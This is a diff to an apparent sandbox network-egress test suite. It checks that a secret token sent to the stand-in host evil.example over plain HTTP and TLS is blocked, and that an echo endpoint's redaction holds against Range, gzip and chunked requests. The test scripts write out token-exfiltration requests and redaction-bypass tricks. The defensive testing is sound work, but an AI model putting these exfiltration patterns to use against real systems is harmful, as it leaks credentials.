@@ -8,7 +8,7 @@ from ringfence.promises.cases.egress import PROXY, SHARED
 from ringfence.promises.judging import answered, network_denied
 from ringfence.promises.outside import TOKEN
 
-_BOTH = (NetworkRule("both", ("allowed.example:80", "allowed.example:443", "evil.example:80")),)
+_BOTH = (NetworkRule("both", ("allowed.example:80", "allowed.example:443", "evil.example:80", "evil.example:443")),)
 
 _SAFELY = (
     PROXY
@@ -26,12 +26,12 @@ def whole(way):
 def plainly(method, url, *headers, body=""):
     host = url.partition("//")[2].partition("/")[0]
     return ask("\\r\\n".join([f"{{method}} {{url}} HTTP/1.1", "Host: " + host, *headers, "", body]))
-def safely(line, *headers, body=b""):
-    out, answer = connect("allowed.example:443")
+def safely(line, *headers, body=b"", host="allowed.example"):
+    out, answer = connect(host + ":443")
     context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
     context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
-    with context.wrap_socket(out, server_hostname="allowed.example") as safe:
-        head = "\\r\\n".join([line + " HTTP/1.1", "Host: allowed.example", *headers, "Connection: close", "", ""])
+    with context.wrap_socket(out, server_hostname=host) as safe:
+        head = "\\r\\n".join([line + " HTTP/1.1", "Host: " + host, *headers, "Connection: close", "", ""])
         safe.sendall(head.encode() + body)
         return whole(safe)
 """
@@ -94,11 +94,26 @@ say(bool(found), found or code(answer))
         "what the host echoes is removed before the box has it",
         _SAFELY
         + """
+import zlib
 mine = "Authorization: Bearer " + token
-answers = [safely("GET /echo", mine, *more) for more in ((), ("Range: bytes=0-99999",), ("Accept-Encoding: gzip",))]
-answers += [safely("HEAD /echo", mine), safely("GET /echo?hex", mine)]
-print(b"".join(answers).decode("latin-1"))
-say(False, ", ".join(map(code, answers)))
+def body(answer):
+    head, _, rest = answer.partition(b"\\r\\n\\r\\n")
+    if b"chunked" not in head:
+        return rest
+    whole = b""
+    while rest:
+        size, _, rest = rest.partition(b"\\r\\n")
+        whole, rest = whole + rest[:int(size, 16)], rest[int(size, 16) + 2:]
+    return whole
+answers = [safely("GET /echo", mine), safely("HEAD /echo", mine), safely("GET /echo?hex", mine)]
+pieces = [body(safely("GET /echo", mine, f"Range: bytes={at:03}-{at + 24:03}")) for at in range(0, 225, 25)]
+packed = safely("GET /echo?gzip", mine, "Accept-Encoding: gzip")
+try:
+    opened = zlib.decompress(body(packed), 31)
+except zlib.error:
+    opened = b""
+print(b"\\n".join([*answers, b"".join(pieces), opened]).decode("latin-1"))
+say(False, ", ".join(map(code, [*answers, packed])))
 """,
         shown,
         owed=(not_used, answered("200")),
@@ -114,11 +129,12 @@ say(False, ", ".join(map(code, answers)))
         + """
 answers = [plainly("GET", "http://evil.example/", "Authorization: Bearer " + token),
            plainly("GET", "http://evil.example/" + token),
-           plainly("POST", "http://evil.example/", f"Content-Length: {len(token)}", body=token)]
-say(False, ", ".join(answers))
+           plainly("POST", "http://evil.example/", f"Content-Length: {len(token)}", body=token),
+           code(safely("GET /", "Authorization: Bearer " + token, host="evil.example"))]
+say("200" in answers, ", ".join(answers))
 """,
         arrived,
-        owed=(answered("403, 403, 403"), network_denied("both")),
+        owed=(answered("403, 403, 403, 403"), network_denied("both")),
         network=_BOTH,
         secret=True,
         control=SHARED,
@@ -132,7 +148,8 @@ say(False, ", ".join(answers))
 size = f"Content-Length: {len(token)}"
 answers = [safely("GET /" + token), safely("GET /", "Cookie: " + token), safely("GET /", "X-Copy: " + token),
            safely("POST /", size, body=token.encode())]
-say(False, ", ".join(map(code, answers)))
+answers = [code(answer) for answer in answers]
+say("200" in answers, ", ".join(answers))
 """,
         arrived,
         owed=(answered("403, 403, 403, 403"), network_denied("both")),
